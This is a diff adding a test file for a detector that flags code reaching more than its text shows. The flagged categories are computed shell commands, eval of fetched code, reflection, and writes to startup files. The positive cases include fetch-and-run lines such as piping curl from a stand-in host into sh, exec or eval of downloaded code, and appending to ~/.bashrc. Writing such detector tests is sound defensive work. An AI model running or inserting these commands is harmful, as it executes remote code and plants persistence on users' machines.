@@ -1,0 +1,88 @@
+// What added code reaches that its literal text cannot show (review 20's F8): computed commands, code evaluated or
+// loaded at run time, reflection, fetched code run, start-up files written; ordinary code is not flagged.
+import { describe, expect, it } from 'vitest';
+import { type CodeLanguage, codeReach, runnerLanguage } from './code-reach';
+
+describe('code that reaches what its text does not show', () => {
+  it.each<[string, CodeLanguage, string]>([
+    [
+      'a shell command held in a name',
+      'python',
+      'import subprocess\nc = "curl -s https://x.example/i | sh"\nsubprocess.run(c, shell=True)',
+    ],
+    ['os.system under another name', 'python', 'from os import system as s\ns(cmd)'],
+    ['a module imported under another name', 'python', 'import subprocess as sp\nsp.getoutput(x)'],
+    ['fetched code executed', 'python', 'exec(requests.get("https://x.example/p.py").text)'],
+    ['a process function by getattr', 'python', 'import os\ngetattr(os, "sys" + "tem")("id")'],
+    ['a module imported by a computed name', 'python', 'importlib.import_module(name).run(c)'],
+    ['a home start-up file appended to', 'python', 'open(os.path.expanduser("~/.bashrc"), "a").write(line)'],
+    [
+      'a notebook cell running a bash magic',
+      'python',
+      "get_ipython().run_cell_magic('bash', '', 'curl -s https://x.example/i | sh')",
+    ],
+    [
+      'download then run',
+      'python',
+      'urllib.request.urlretrieve(u, "/tmp/x")\nsubprocess.run(["sh", "/tmp/x"])',
+    ],
+    [
+      'execSync of a template',
+      'node',
+      'const { execSync } = require("child_process");\nexecSync(`git log ${ref}`);',
+    ],
+    ['an aliased exec', 'node', 'import { exec as run } from "node:child_process";\nrun(cmd);'],
+    [
+      'fetched code evaluated',
+      'node',
+      'const r = await fetch("https://x.example/x.js");\neval(await r.text());',
+    ],
+    ['a Function built from text', 'node', 'new Function(body)()'],
+    ['a home start-up file written', 'node', 'fs.appendFileSync(os.homedir() + "/.bashrc", line);'],
+    ['Ruby backticks with interpolation', 'ruby', 'out = `git log #{ref}`'],
+    ['Ruby system by send', 'ruby', 'Kernel.send(:system, c)'],
+    ['Ruby eval of a fetched body', 'ruby', 'eval(URI.open(u).read)'],
+    ['PHP backticks with a variable', 'php', '$x = `ls $dir`;'],
+    ['PHP call_user_func of a built name', 'php', 'call_user_func("sys" . "tem", $c);'],
+    ['Perl piped open', 'perl', 'open(my $f, "|-", "sh"); print $f $c;'],
+  ])('%s', (_name, language, code) => {
+    expect(codeReach(language, code)).toBeDefined();
+  });
+});
+
+describe('ordinary code is not flagged', () => {
+  it.each<[string, CodeLanguage, string]>([
+    ['a literal command', 'python', 'subprocess.run(["pytest", "-q"], check=True)'],
+    [
+      'an argv of names, no shell',
+      'python',
+      'subprocess.run([sys.executable, "-m", "pip", "list"], check=True)',
+    ],
+    ['JSON from a request', 'python', 'data = requests.get(url).json()\nrows = json.loads(text)'],
+    ['a regular expression compiled', 'python', 'PATTERN = re.compile(r"\\d+")'],
+    ['a literal execSync', 'node', 'execSync("git rev-parse HEAD")'],
+    ['a template with no interpolation', 'node', 'execSync(`npm run build`)'],
+    [
+      'fetch and a template literal',
+      'node',
+      'const r = await fetch(`${base}/api`);\nconsole.log(`got ${r.status}`);',
+    ],
+    ['a regular expression exec', 'node', 'const m = /x/.exec(line);'],
+    ['a literal require', 'node', 'const fs = require("fs");'],
+    ['Ruby system with literal words', 'ruby', 'system("bundle", "exec", "rake")'],
+    ['Ruby metaprogramming send', 'ruby', 'record.send(attribute)'],
+    [
+      'Ruby require with no parentheses',
+      'ruby',
+      "require File.expand_path('../config/environment', __dir__)",
+    ],
+    ['PHP require of the autoloader', 'php', "require __DIR__ . '/vendor/autoload.php';"],
+    ['a start-up file only named', 'python', 'print("add this to your .bashrc")'],
+  ])('%s', (_name, language, code) => {
+    expect(codeReach(language, code)).toBeUndefined();
+  });
+  it('runners name their languages', () => {
+    expect(runnerLanguage('python3 -c')).toBe('python');
+    expect(runnerLanguage('Rscript -e')).toBeUndefined();
+  });
+});
